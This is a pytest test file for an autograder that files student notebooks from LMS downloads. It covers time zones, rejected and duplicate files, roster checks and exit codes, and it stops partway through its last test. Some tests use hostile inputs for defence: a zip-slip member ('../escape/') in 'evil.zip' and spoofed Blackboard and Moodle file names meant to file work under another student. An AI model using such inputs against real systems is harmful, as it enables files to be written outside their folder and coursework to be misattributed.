"""collect: every LMS layout it documents, and every file accounted for (filed, rejected or ignored)."""

from __future__ import annotations

import copy
import datetime as dt
import json
import os
import re
import struct
import time
import zipfile
import zlib
from pathlib import Path

import nbformat
import pytest

from autograder.collect import collect, match_notebook, read_notebook, NotANotebook
from autograder.course import AutograderError, Course, build_option

NOTEBOOKS = ["00-vectors-shapes-and-gradients", "02-shapes-and-loss"]


@pytest.fixture()
def course(tmp_path, monkeypatch):
    """A course whose release holds two (empty) notebooks; no nbgrader run needed."""
    monkeypatch.setenv("PART_II_BUILD", str(tmp_path / "build"))
    monkeypatch.delenv("PART_II_DB_URL", raising=False)
    c = Course.load()
    c.release_dir.mkdir(parents=True)
    for name in NOTEBOOKS:
        nbformat.write(nbformat.v4.new_notebook(), c.release_dir / f"{name}.ipynb")
    return c


@pytest.fixture(autouse=True)
def local_time_zone(monkeypatch):
    """A zip's DOS times are read as local time: UTC here unless a test sets TZ (set_time_zone)."""
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def set_time_zone(monkeypatch, zone: str) -> None:
    """This process's local time zone for the rest of the test."""
    monkeypatch.setenv("TZ", zone)
    time.tzset()


def notebook_bytes(marker: str) -> bytes:
    """A small valid notebook whose only cell says marker (same bytes on every call)."""
    cell = nbformat.v4.new_code_cell(f"# {marker}")
    cell.id = "only-cell"
    return nbformat.writes(nbformat.v4.new_notebook(cells=[cell])).encode()


def write_tree(root: Path, files: dict[str, bytes]) -> Path:
    """Create files (relative path -> bytes) under root."""
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return root


def submitted(course: Course, student: str) -> dict[str, bytes]:
    """The notebooks filed for a student, by file name."""
    folder = course.step_dir("submitted", student)
    return {p.name: p.read_bytes() for p in folder.glob("*.ipynb")}


def stamp_of(course: Course, student: str) -> str:
    """The hand-in time collect wrote for the student (nbgrader's timestamp.txt, UTC)."""
    return (course.step_dir("submitted", student) / "timestamp.txt").read_text().strip()


def test_student_folders_inside_a_wrapper_zip_are_filed(course, tmp_path):
    zpath = tmp_path / "download.zip"
    members = {"export/alice/02-shapes-and-loss.ipynb": notebook_bytes("alice 02"),
               "export/alice/part-ii/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("alice 00"),
               "export/bob/02-shapes-and-loss.ipynb": notebook_bytes("bob 02"),
               "export/__MACOSX/bob/._02-shapes-and-loss.ipynb": b"\0\1"}
    with zipfile.ZipFile(zpath, "w") as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2026, 2, 3, 4, 5, 6)), data)
    report = collect(course, zpath)
    assert sorted(report.students) == ["alice", "bob"]
    assert submitted(course, "alice")["02-shapes-and-loss.ipynb"] == notebook_bytes("alice 02")
    assert submitted(course, "alice")["00-vectors-shapes-and-gradients.ipynb"] == notebook_bytes("alice 00")
    assert report.students["bob"].missing == ["00-vectors-shapes-and-gradients"]
    assert [r.file for r in report.ignored] == ["__MACOSX/bob/._02-shapes-and-loss.ipynb"]
    assert stamp_of(course, "alice") == "2026-02-03 04:05:06.000000 UTC"


def test_ids_in_file_names_canvas_blackboard_and_plain(course, tmp_path):
    download = write_tree(tmp_path / "flat", {
        "carol_02-shapes-and-loss.ipynb": notebook_bytes("carol"),
        "doejane_late_1234_5678_02-shapes-and-loss-1.ipynb": notebook_bytes("jane"),
        "Part II_jsmith_attempt_2026-03-01-10-00-00_02-shapes-and-loss.ipynb": notebook_bytes("smith"),
    })
    report = collect(course, download)
    assert sorted(report.students) == ["carol", "doejane", "jsmith"]
    assert submitted(course, "doejane") == {"02-shapes-and-loss.ipynb": notebook_bytes("jane")}
    assert stamp_of(course, "jsmith") == "2026-03-01 10:00:00.000000 UTC"  # this test's clock: UTC


def test_a_blackboard_file_named_like_another_student_s_attempt_stays_its_uploader_s(course, tmp_path):
    """Blackboard appends the name the student gave the file: mallory uploading 'y_bob_attempt_<later time>_02...'
    must not replace bob's 02 (review: the last _attempt_ won, so bob was 'updated' with mallory's blank file), nor
    make the download's ids clash ('z_Bob' stopped the whole collect)."""
    bob = "Part II_bob_attempt_2026-03-01-09-00-00_02-shapes-and-loss.ipynb"
    collect(course, write_tree(tmp_path / "a", {bob: notebook_bytes("bob's work")}))
    report = collect(course, write_tree(tmp_path / "b", {
        bob: notebook_bytes("bob's work"),
        "Part II_mallory_attempt_2026-03-02-10-00-00_y_bob_attempt_2026-03-09-10-00-00_02-shapes-and-loss.ipynb":
            notebook_bytes("mallory"),
        "Part II_carol_attempt_2026-03-02-10-00-00_z_Bob_attempt_2026-03-09-10-00-00_02-shapes-and-loss.ipynb":
            notebook_bytes("carol")}))
    assert submitted(course, "bob") == {"02-shapes-and-loss.ipynb": notebook_bytes("bob's work")}
    assert submitted(course, "mallory") == {"02-shapes-and-loss.ipynb": notebook_bytes("mallory")}
    assert submitted(course, "carol") == {"02-shapes-and-loss.ipynb": notebook_bytes("carol")}
    assert report.students["bob"].status != "updated" and stamp_of(course, "bob") == "2026-03-01 09:00:00.000000 UTC"


def test_a_blackboard_name_s_time_is_the_server_s_wall_clock(course, tmp_path, monkeypatch):
    """Blackboard writes its local time into the name: in Beijing, 10:00 there is 02:00 UTC."""
    set_time_zone(monkeypatch, "Asia/Shanghai")
    report = collect(course, write_tree(tmp_path / "bb", {
        "Part II_jsmith_attempt_2026-03-01-10-00-00_02-shapes-and-loss.ipynb": notebook_bytes("smith")}))
    assert stamp_of(course, "jsmith") == "2026-03-01 02:00:00.000000 UTC"
    assert report.wall_clock == 1


def test_a_blackboard_name_with_no_real_date_gets_the_file_s_time(course, tmp_path, monkeypatch):
    set_time_zone(monkeypatch, "Asia/Shanghai")
    folder = write_tree(tmp_path / "bb", {"Part II_kim_attempt_2026-13-45-10-00-00_02-shapes-and-loss.ipynb": notebook_bytes("k"),
                                          "Part II_lee_attempt_0001-01-01-00-00-00_02-shapes-and-loss.ipynb": notebook_bytes("l")})
    saved = dt.datetime(2026, 4, 5, 6, 7, 8, tzinfo=dt.timezone.utc).timestamp()
    for f in folder.iterdir():
        os.utime(f, (saved, saved))
    report = collect(course, folder)
    assert sorted(report.students) == ["kim", "lee"] and not report.rejected
    assert report.wall_clock == 0  # the files' own times, in UTC
    assert stamp_of(course, "kim") == stamp_of(course, "lee") == "2026-04-05 06:07:08.000000 UTC"


def test_moodle_folder_gives_the_numeric_id(course, tmp_path):
    download = write_tree(tmp_path / "moodle", {
        "Zhang San_4711_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("z"),
    })
    assert list(collect(course, download).students) == ["4711"]
    # Moodle writes the id at the end of the folder name: a name before it that holds another student's id and
    # Moodle's marker (a renamed folder, found by a red-team review) does not file the work for that student
    spoofed = write_tree(tmp_path / "spoofed", {
        "Mallory x_4711_assignsubmission_file_5555_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("m"),
    })
    assert list(collect(course, spoofed).students) == ["5555"]


def test_a_class_download_none_of_whose_students_is_on_the_roster_is_refused_before_filing(course, tmp_path, capsys):
    """Moodle names students by the assignment's participant number, not by the ID number a roster holds (an
    instructor's walkthrough: every roster student exported 0, beside new rows for the download's numbers). With a
    roster (students with names) in the gradebook, a class download none of whose ids it knows files nothing and
    registers nobody; one that names a roster student files its new students beside them, and without a roster (ids
    collect registered) a download of new students is filed as before."""
    from autograder.collect import print_report

    roster = {"2023010101": ("San", "Zhang"), "2023010102": ("Si", "Li")}
    with course.gradebook() as gb:
        for sid, (first, last) in roster.items():
            gb.update_or_create_student(sid, first_name=first, last_name=last)
    moodle = {"张三_20001_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("z"),
              "李四_20002_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("l")}
    with pytest.raises(AutograderError) as refused:
        collect(course, write_tree(tmp_path / "moodle", moodle))
    assert str(refused.value).startswith(
        "nothing was collected: none of the 2 students this download names (20001, 20002) is in the gradebook, whose "
        "roster lists 2 (2023010101, 2023010102): filed, they would be new students, and the roster's would have no "
        "hand-in. An LMS download may name students otherwise than the roster: Moodle by the assignment's participant "
        "number, not the ID number"), refused.value
    assert f"`nbgrader db student add ID --first-name … --last-name …`, run in {course.root}" in str(refused.value)
    with course.gradebook() as gb:
        assert sorted(st.id for st in gb.students) == sorted(roster)
    assert not course.step_dir("submitted", "20001").exists()
    # the folders renamed to the roster's ids, and a student the roster lacks beside them: filed
    renamed = {"张三_2023010101_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("z"),
               "王五_2023010199_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("w")}
    report = collect(course, write_tree(tmp_path / "renamed", renamed))
    assert sorted(report.students) == ["2023010101", "2023010199"] and report.off_roster == ["2023010199"]
    print_report(report)
    assert "not on the roster, filed as new students (1): 2023010199; give them names with" in capsys.readouterr().out
    with pytest.raises(AutograderError, match=r"^nothing was collected: the one student this download names \(42\) "
                                              r"is not in the gradebook, whose roster lists 2 .*: filed, it would be a "
                                              r"new student,"):
        collect(course, write_tree(tmp_path / "one", {"42/02-shapes-and-loss.ipynb": notebook_bytes("x")}))
    # --student files one student's download as given, roster or not
    assert list(collect(course, write_tree(tmp_path / "mail", {"x/02-shapes-and-loss.ipynb": notebook_bytes("x")}),
                        student="mailed").students) == ["mailed"]


def test_without_a_roster_a_download_of_new_students_is_filed_beside_the_collected_ones(course, tmp_path):
    """Ids collect registered carry no name: a later download of other students (late hand-ins) is not refused."""
    collect(course, write_tree(tmp_path / "a", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("a")}))
    assert list(collect(course, write_tree(tmp_path / "b", {"bob/02-shapes-and-loss.ipynb": notebook_bytes("b")}))
                .students) == ["bob"]


def test_moodle_file_names_without_folders_give_the_same_numeric_id(course, tmp_path):
    """Moodle's download with "submissions in folders" off: Full Name_ID_assignsubmission_file_NAME."""
    flat = write_tree(tmp_path / "flat", {
        "Zhang San_4711_assignsubmission_file_02-shapes-and-loss.ipynb": notebook_bytes("z 02"),
        "Zhang San_4711_assignsubmission_file_homework.ipynb": notebook_bytes("z hw"),
        "Li Si_4712_assignsubmission_file_00-vectors-shapes-and-gradients (1).ipynb": notebook_bytes("l 00"),
        "Wang Wu_4713_assignsubmission_file_wangwu_2026_02-shapes-and-loss.ipynb": notebook_bytes("w 02"),
        "student_01_4714_assignsubmission_file_hw.py": b"print(1)\n",  # a full name Canvas could claim
    })
    report = collect(course, flat)
    assert sorted(report.students) == ["4711", "4712", "4713", "4714"], report.students
    assert submitted(course, "4711") == {"02-shapes-and-loss.ipynb": notebook_bytes("z 02")}
    assert submitted(course, "4712") == {"00-vectors-shapes-and-gradients.ipynb": notebook_bytes("l 00")}
    assert submitted(course, "4713") == {"02-shapes-and-loss.ipynb": notebook_bytes("w 02")}
    assert [(r.file, r.student) for r in report.rejected] == [
        ("Zhang San_4711_assignsubmission_file_homework.ipynb", "4711"), ("student_01_4714_assignsubmission_file_hw.py", "4714")]
    # the same hand-in downloaded with folders is the same student, not a second one
    folders = write_tree(tmp_path / "folders", {
        "Zhang San_4711_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("z 02")})
    stat = (flat / "Zhang San_4711_assignsubmission_file_02-shapes-and-loss.ipynb").stat()
    os.utime(folders / "Zhang San_4711_assignsubmission_file_" / "02-shapes-and-loss.ipynb", ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert collect(course, folders).students["4711"].status == "unchanged"
    assert sorted(course.submitted_students()) == ["4711", "4712", "4713"]


def test_zip_times_are_read_in_utc_when_the_zip_says_so_else_as_local_time(course, tmp_path, monkeypatch, capsys):
    """Info-ZIP's Unix field and the NTFS field are UTC; a bare DOS time is the zipper's wall clock."""
    written = dt.datetime(2026, 3, 1, 2, 0, 0, tzinfo=dt.timezone.utc)  # 10:00 in Beijing
    unix = struct.pack("<HHBi", 0x5455, 5, 1, int(written.timestamp()))
    filetime = (written - dt.datetime(1601, 1, 1, tzinfo=dt.timezone.utc)) // dt.timedelta(microseconds=1) * 10
    ntfs = struct.pack("<HHIHHQQQ", 0x000A, 32, 0, 1, 24, filetime, filetime, filetime)
    zpath = tmp_path / "times.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        for student, extra in (("unix", unix), ("ntfs", ntfs), ("dos", b"")):
            info = zipfile.ZipInfo(f"{student}/02-shapes-and-loss.ipynb", date_time=(2026, 3, 1, 10, 0, 0))
            info.extra = extra
            zf.writestr(info, notebook_bytes(student))
    set_time_zone(monkeypatch, "Asia/Shanghai")
    report = collect(course, zpath)
    assert {s: stamp_of(course, s) for s in ("unix", "ntfs", "dos")} == dict.fromkeys(
        ("unix", "ntfs", "dos"), "2026-03-01 02:00:00.000000 UTC")
    # only the DOS time depended on the zone: collect says which zone it assumed, and how to change it
    assert (report.wall_clock, report.zone) == (1, "Asia/Shanghai (UTC+0800)")
    from autograder.collect import print_report

    print_report(report)
    assert ("hand-in times: 1 file carries only a wall-clock time (a zip's DOS time, or a Blackboard file name's), "
            "read in this machine's time zone, Asia/Shanghai (UTC+0800); if the LMS server's zone differs, collect "
            "again with TZ set to it, e.g. TZ=UTC") in capsys.readouterr().out  # not the zone it already is
    assert report.zone_before is None
    # the same download collected again without TZ (review): its DOS time moves by 8 h, and collect says so
    set_time_zone(monkeypatch, "UTC")
    again = collect(course, zpath)
    assert stamp_of(course, "dos") == "2026-03-01 10:00:00.000000 UTC"
    assert again.zone_before == "Asia/Shanghai (UTC+0800)"
    print_report(again)
    assert ("warning: the collect before read such times in Asia/Shanghai (UTC+0800), this one in UTC (UTC+0000), so "
            "files collected then get other hand-in times now; if Asia/Shanghai is the LMS server's zone, collect "
            "again with TZ=Asia/Shanghai") in capsys.readouterr().out
    set_time_zone(monkeypatch, "Asia/Shanghai")  # put right: the times come back, and the switch is named again
    assert collect(course, zpath).zone_before == "UTC (UTC+0000)"
    assert stamp_of(course, "dos") == "2026-03-01 02:00:00.000000 UTC"
    assert collect(course, zpath).zone_before is None  # the same zone as the collect before: nothing to say


def test_a_zip_member_without_a_valid_date_gets_the_zip_s_time(course, tmp_path):
    """Some zippers write a zero DOS date (1980-00-00): the member is filed, dated like the zip file."""
    zpath = tmp_path / "zeros.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr(zipfile.ZipInfo("kim/02-shapes-and-loss.ipynb", date_time=(1980, 0, 0, 0, 0, 0)), notebook_bytes("k"))
    downloaded = dt.datetime(2026, 4, 5, 6, 7, 8, tzinfo=dt.timezone.utc)
    os.utime(zpath, (downloaded.timestamp(), downloaded.timestamp()))
    report = collect(course, zpath)
    assert submitted(course, "kim") == {"02-shapes-and-loss.ipynb": notebook_bytes("k")} and not report.rejected
    assert report.wall_clock == 0  # the zip file's own time is UTC
    assert stamp_of(course, "kim") == "2026-04-05 06:07:08.000000 UTC"


def test_every_bad_file_is_recorded_with_its_reason_and_kept(course, tmp_path):
    old, new = notebook_bytes("old"), notebook_bytes("new")
    download = write_tree(tmp_path / "bad", {
        "erin/02-shapes-and-loss.ipynb": b'{"cells": [',
        "erin/00-vectors-shapes-and-gradients.ipynb": b"",
        "frank/homework.ipynb": notebook_bytes("frank"),
        "frank/02-shapes-and-loss.ipynb": b"\xff\xfe not text",
        "gina/02-shapes-and-loss.ipynb": old,
        "gina/02-shapes-and-loss (1).ipynb": new,
        "gina/notes.txt": b"hello",
        "gina/.DS_Store": b"\0",
        "02-shapes-and-loss.ipynb": notebook_bytes("whose?"),
    })
    os.utime(download / "gina/02-shapes-and-loss.ipynb", (1_700_000_000, 1_700_000_000))
    os.utime(download / "gina/02-shapes-and-loss (1).ipynb", (1_800_000_000, 1_800_000_000))
    report = collect(course, download)
    reasons = {r.file: r.reason for r in report.rejected}
    assert "invalid JSON" in reasons["erin/02-shapes-and-loss.ipynb"]
    assert reasons["erin/00-vectors-shapes-and-gradients.ipynb"] == "empty file"
    assert reasons["frank/homework.ipynb"].startswith("wrong name")
    assert "not UTF-8" in reasons["frank/02-shapes-and-loss.ipynb"]
    assert reasons["gina/02-shapes-and-loss.ipynb"].startswith("duplicate")
    assert reasons["02-shapes-and-loss.ipynb"].startswith("cannot tell whose file")
    assert reasons["gina/notes.txt"].startswith("not a notebook (.txt)")
    assert {r.file for r in report.ignored} == {"gina/.DS_Store"}
    assert submitted(course, "gina") == {"02-shapes-and-loss.ipynb": new}  # the newer file wins
    for r in report.rejected:  # never dropped: a byte-identical copy is kept
        assert Path(r.copy).read_bytes() == (download / r.file).read_bytes()
    assert report.students["erin"].status == "no valid notebook"
    saved = json.loads((course.reports_dir / "collect.json").read_text())
    assert {r["file"] for r in saved["rejected"]} == set(reasons)


def test_collect_again_reports_unchanged_then_updated(course, tmp_path):
    download = write_tree(tmp_path / "d", {"hana/02-shapes-and-loss.ipynb": notebook_bytes("v1")})
    assert collect(course, download).students["hana"].status == "new"
    assert collect(course, download).students["hana"].status == "unchanged"
    first_time, handed_in = stamp_of(course, "hana"), os.stat(download / "hana/02-shapes-and-loss.ipynb").st_mtime
    (download / "hana/02-shapes-and-loss.ipynb").write_bytes(notebook_bytes("v2"))
    os.utime(download / "hana/02-shapes-and-loss.ipynb", (handed_in + 60,) * 2)  # a time of its own
    second = collect(course, download).students["hana"]
    assert second.status == "updated"
    assert submitted(course, "hana")["02-shapes-and-loss.ipynb"] == notebook_bytes("v2")
    kept = Path(second.replaced)  # the replaced hand-in is kept, with its time, outside nbgrader's folders
    assert kept.parent == course.replaced_dir / "hana"
    assert (kept / "02-shapes-and-loss.ipynb").read_bytes() == notebook_bytes("v1")
    assert (kept / "timestamp.txt").read_text(encoding="utf-8").strip() == first_time, "the replaced hand-in's own time"
    (download / "hana/02-shapes-and-loss.ipynb").write_bytes(notebook_bytes("v3"))
    os.utime(download / "hana/02-shapes-and-loss.ipynb", (handed_in + 120,) * 2)
    third = collect(course, download).students["hana"]
    assert (Path(third.replaced) / "02-shapes-and-loss.ipynb").read_bytes() == notebook_bytes("v2")
    assert (kept / "02-shapes-and-loss.ipynb").read_bytes() == notebook_bytes("v1")  # never overwritten
    saved = json.loads((course.reports_dir / "collect.json").read_text())
    assert saved["students"]["hana"]["replaced"] == third.replaced


def test_the_same_notebook_again_with_a_later_file_time_keeps_its_hand_in_time(course, tmp_path, monkeypatch):
    """A copy of the filed notebook mailed or saved since (a later file time, same bytes) leaves the hand-in unchanged
    and its time where it was: it was re-dated, and an on-time student became 279 days late (an instructor's
    walkthrough). A zip's wall-clock time read in another zone is still corrected, and another notebook is filed."""
    download = write_tree(tmp_path / "d", {"hana/02-shapes-and-loss.ipynb": notebook_bytes("v1")})
    os.utime(download / "hana/02-shapes-and-loss.ipynb", (1_767_225_600,) * 2)  # 2026-01-01 00:00 UTC
    collect(course, download)
    first = stamp_of(course, "hana")
    mailed = write_tree(tmp_path / "mail", {"02-shapes-and-loss.ipynb": notebook_bytes("v1")})  # its time: now
    again = collect(course, mailed / "02-shapes-and-loss.ipynb", student="hana").students["hana"]
    assert (again.status, again.replaced, stamp_of(course, "hana")) == ("unchanged", None, first)
    # the same in a zip zipped since (its DOS time is a wall-clock reading, in the zone of the last collect), or among
    # files that need --replace-older (review)
    with zipfile.ZipFile(tmp_path / "mailed.zip", "w") as zf:
        zf.writestr(zipfile.ZipInfo("02-shapes-and-loss.ipynb", (2026, 9, 1, 10, 0, 0)), notebook_bytes("v1"))
    for replace_older in (False, True):
        again = collect(course, tmp_path / "mailed.zip", student="hana", replace_older=replace_older).students["hana"]
        assert (again.status, stamp_of(course, "hana")) == ("unchanged", first), replace_older
    changed = write_tree(tmp_path / "mail2", {"02-shapes-and-loss.ipynb": notebook_bytes("v2")})
    assert collect(course, changed / "02-shapes-and-loss.ipynb", student="hana").students["hana"].status == "updated"
    assert stamp_of(course, "hana") > first
    # a zip's DOS time (the zipper's wall clock): the same zip read in a zone 8 hours behind moves the time later
    with zipfile.ZipFile(tmp_path / "class.zip", "w") as zf:
        zf.writestr(zipfile.ZipInfo("rui/02-shapes-and-loss.ipynb", (2026, 1, 1, 22, 0, 0)), notebook_bytes("r"))
    set_time_zone(monkeypatch, "Asia/Shanghai")
    collect(course, tmp_path / "class.zip")
    set_time_zone(monkeypatch, "UTC")
    assert collect(course, tmp_path / "class.zip").students["rui"].status == "updated"
    assert stamp_of(course, "rui").startswith("2026-01-01 22:00:00"), stamp_of(course, "rui")


def test_collect_exits_0_when_all_is_filed_1_when_a_file_is_rejected_2_when_nothing_is(course, tmp_path, capsys):
    """Scripts see it: 0 when every file was filed or ignored, 1 when one waits in rejected/ for a look."""
    from autograder.cli import main

    clean = write_tree(tmp_path / "clean", {"ivan/02-shapes-and-loss.ipynb": notebook_bytes("ivan"),
                                            "ivan/__MACOSX/._02-shapes-and-loss.ipynb": b"\0\1"})
    assert main(["collect", str(clean)]) == 0
    out = capsys.readouterr().out
    assert "ivan" in out and "rejected files" not in out, out
    broken = write_tree(tmp_path / "broken", {"judy/02-shapes-and-loss.ipynb": b"{not json"})
    assert main(["collect", str(broken)]) == 1
    out = capsys.readouterr().out
    assert "rejected files (1), copies kept in the course's rejected/ folder:" in out, out
    assert "judy/02-shapes-and-loss.ipynb: invalid JSON" in out, out
    (tmp_path / "nothing").mkdir()  # refused, nothing filed: 2, as for bad arguments
    assert main(["collect", str(tmp_path / "nothing")]) == 2
    err = capsys.readouterr().err
    assert (f"collect: error: found no files in {tmp_path / 'nothing'}: is it the LMS download? "
            "(`python -m autograder collect --help` lists the layouts collect reads)\n") in err, err
    assert "accepted layouts" not in err, "an empty folder is no layout trouble: no screen of layouts (found by review)"


@pytest.mark.parametrize("files, words", [
    ({"02-shapes-and-loss.ipynb": notebook_bytes("whose?"), "00-vectors-shapes-and-gradients.ipynb": notebook_bytes("?")},
     "no file in {path} could be filed for a student (2 rejected: 00-vectors-shapes-and-gradients.ipynb: cannot tell "
     "whose file this is: put it in a folder named after the student or start the file name with the student id; "),
    ({"__MACOSX/._x": b"\0", ".DS_Store": b"\0"},
     "found no student files in {path}: its 2 files are system files or unchanged copies of the course's own files"),
])
def test_a_download_that_gives_no_student_anything_says_what_it_held(course, tmp_path, capsys, files, words):
    from autograder.cli import main

    download = write_tree(tmp_path / "d", files)
    assert main(["collect", str(download)]) == 2
    assert words.format(path=download) in capsys.readouterr().err


def test_a_download_of_documents_registers_nobody_but_a_gradebook_student_s_documents_are_recorded(course, tmp_path,
                                                                                                      capsys):
    """A zip of files none of which is a notebook or names the course is the wrong download: refused (2) before any
    student is registered, since a registered student stays in every export (found by review: 'docs' got a row).
    The same files of a student the gradebook knows are that student's hand-in: recorded, rejected (1)."""
    from autograder.cli import main
    from autograder.course import ASSIGNMENT
    from autograder.export import export
    from shared_builds import read_grades_csv

    junk = tmp_path / "junk.zip"
    with zipfile.ZipFile(junk, "w") as zf:
        zf.writestr("docs/a.txt", "notes\n")
        zf.writestr("docs/b.pdf", b"%PDF-1.4")
    assert main(["collect", str(junk)]) == 2
    err = capsys.readouterr().err
    assert f"no file in {junk} could be filed for a student (2 rejected: docs/a.txt: not a notebook (.txt)" in err, err
    assert (f"nobody was registered: if this student (docs) handed the files in, add the student to the gradebook "
            f"(`nbgrader db student add docs`, run in {course.root}) and collect again") in err, err
    assert "accepted layouts" not in err, err  # the layout was read: a screen of layouts would point the wrong way
    with course.gradebook() as gb:
        assert [s.id for s in gb.students] == []
    assert course.submitted_students() == [] and not list((course.root / "rejected").glob("**/*.pdf"))
    with course.gradebook() as gb:
        gb.update_or_create_assignment(ASSIGNMENT)
        gb.update_or_create_student("docs")
    assert main(["collect", str(junk)]) == 1
    assert "docs/b.pdf: not a notebook (.pdf)" in capsys.readouterr().out
    rows = read_grades_csv(export(course)[0])
    assert rows["docs"]["status"] == "no valid notebook" and "rejected docs/b.pdf" in rows["docs"]["notes"], rows
    # two new students' documents: a command for each; an id the gradebook has in another case is a clash, refused
    # as such, never advice to add the second spelling (found by review)
    two = write_tree(tmp_path / "two", {"bob/report.pdf": b"%PDF", "carol/answers.docx": b"PK"})
    assert main(["collect", str(two)]) == 2
    assert ("if these students (bob, carol) handed the files in, add them to the gradebook (`nbgrader db student add "
            "bob`; `nbgrader db student add carol`, run in") in capsys.readouterr().err
    with course.gradebook() as gb:
        gb.update_or_create_student("alice")
    assert main(["collect", str(write_tree(tmp_path / "case", {"Alice/report.pdf": b"%PDF"}))]) == 2
    err = capsys.readouterr().err
    assert "Alice and alice differ only in case" in err and "student add" not in err, err


def test_feedback_names_the_gradebook_s_students_with_nothing_collected(course, tmp_path, capsys):
    """Students of a roster (nbgrader db student import) with no hand-in: export scores them 0, but feedback wrote them
    nothing and said nothing, so an instructor handing out the pages would miss them (found by review). Feedback
    names them; it writes them no page (nothing of theirs was collected: a later download may hold their work)."""
    from autograder.cli import main
    from autograder.course import ASSIGNMENT

    assert main(["collect", str(write_tree(tmp_path / "d", {"judy/02-shapes-and-loss.ipynb": b"{not json"}))]) == 1
    with course.gradebook() as gb:
        gb.update_or_create_assignment(ASSIGNMENT)
        for sid in ("newkid", "amy"):
            gb.update_or_create_student(sid)
    capsys.readouterr()
    assert main(["feedback"]) == 0
    out = capsys.readouterr().out
    assert ("no pages for 2 students of the gradebook with nothing collected (amy, newkid): export scores them 0, as "
            "'no submission'") in out, out
    assert list(course.step_dir("feedback", "judy").glob("*.html")) and not course.step_dir("feedback", "amy").exists()
    assert main(["feedback", "--student", "judy"]) == 0
    assert "nothing collected" not in capsys.readouterr().out  # only judy was asked for


def test_student_option_refuses_the_name_of_the_assignment_or_a_notebook(course, tmp_path, capsys):
    from autograder.cli import main

    download = write_tree(tmp_path / "d", {"02-shapes-and-loss.ipynb": notebook_bytes("x")})
    for name in ("part-ii", "02-shapes-and-loss"):
        assert main(["collect", str(download), "--student", name]) == 2
        assert f"--student {name}: that is the name of the assignment or of one of its notebooks, not a student id" in \
            capsys.readouterr().err
    assert course.submitted_students() == []


def test_unsafe_zip_member_is_rejected_not_extracted(course, tmp_path):
    zpath = tmp_path / "evil.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("../escape/02-shapes-and-loss.ipynb", notebook_bytes("x"))
        zf.writestr("ivan/02-shapes-and-loss.ipynb", notebook_bytes("ivan"))
    report = collect(course, zpath)
    assert any("unsafe path" in r.reason for r in report.rejected)
    assert not (tmp_path / "escape").exists()


def damaged_zip(path: Path, members: dict[str, bytes], damage: str, victim: str) -> Path:
    """A stored (uncompressed) zip of members in which victim is damaged: 'crc' (a changed byte of its data),
    'encrypted' (the password flag set) or 'deflate64' (compression method 9, which zipfile cannot read)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    raw = bytearray(path.read_bytes())
    if damage == "crc":
        at = raw.index(members[victim]) + 10
        raw[at] ^= 0x20
    else:  # the central directory entry: signature, versions (4 bytes), flags (2), method (2), ..., name at 46
        entry = next(i for i in range(len(raw)) if raw[i:i + 4] == b"PK\x01\x02" and raw[i + 46:i + 46 + len(victim)] == victim.encode())
        if damage == "encrypted":
            struct.pack_into("<H", raw, entry + 8, struct.unpack_from("<H", raw, entry + 8)[0] | 0x1)
        else:
            struct.pack_into("<H", raw, entry + 10, 9)
    path.write_bytes(bytes(raw))
    return path


@pytest.mark.parametrize("damage, words", [
    ("crc", "it is damaged (Bad CRC-32"),
    ("encrypted", "it is password-protected"),
    ("deflate64", "it is compressed with a method Python's zipfile cannot read"),
])
@pytest.mark.parametrize("wrapper", ["", "Part II submissions/"], ids=["flat", "in-a-wrapping-folder"])
def test_a_member_the_zip_cannot_give_back_is_rejected_and_the_rest_filed(course, tmp_path, capsys, damage, words,
                                                                         wrapper):
    """One unreadable file must not cost the class its download: it is named with what to do, the others filed."""
    from autograder.cli import main

    members = {f"{wrapper}kara/02-shapes-and-loss.ipynb": notebook_bytes("kara"),
               f"{wrapper}liam/02-shapes-and-loss.ipynb": notebook_bytes("liam")}
    zpath = damaged_zip(tmp_path / "class.zip", members, damage, f"{wrapper}liam/02-shapes-and-loss.ipynb")
    assert main(["collect", str(zpath)]) == 1
    out = capsys.readouterr().out
    assert f"liam/02-shapes-and-loss.ipynb: cannot be read from the zip: {words}" in out, out
    assert "(no copy kept)" in out, out
    assert "rejected files (1), no copies kept:" in out, out  # the header said "copies kept" (found by review)
    assert submitted(course, "kara") == {"02-shapes-and-loss.ipynb": notebook_bytes("kara")}
    saved = json.loads((course.reports_dir / "collect.json").read_text())
    assert [(r["file"], r["student"]) for r in saved["rejected"]] == [("liam/02-shapes-and-loss.ipynb", "liam")]
    assert saved["students"]["liam"]["status"] == "no valid notebook"  # export gives liam a row saying why


def test_rejections_of_no_student_s_files_survive_the_next_collect_and_are_replaced_by_their_own(course, tmp_path):
    first = write_tree(tmp_path / "one", {"02-shapes-and-loss.ipynb": notebook_bytes("whose?"),
                                          "mona/02-shapes-and-loss.ipynb": notebook_bytes("mona")})
    collect(course, first)
    collect(course, write_tree(tmp_path / "two", {"nils/02-shapes-and-loss.ipynb": notebook_bytes("nils")}))
    saved = json.loads((course.reports_dir / "collect.json").read_text())
    assert [r["file"] for r in saved["rejected"]] == ["02-shapes-and-loss.ipynb"]
    collect(course, first)  # the same download again: one record of the file, not two
    saved = json.loads((course.reports_dir / "collect.json").read_text())
    assert [r["file"] for r in saved["rejected"]] == ["02-shapes-and-loss.ipynb"]


@pytest.mark.parametrize("text", ['{"students": {', '["not", "a", "record"]'], ids=["not-json", "not-a-record"])
def test_a_damaged_collect_record_stops_collect_before_it_files_anything(course, tmp_path, capsys, text):
    from autograder.cli import main

    with course.gradebook():  # the collect that wrote the record made the gradebook too
        pass
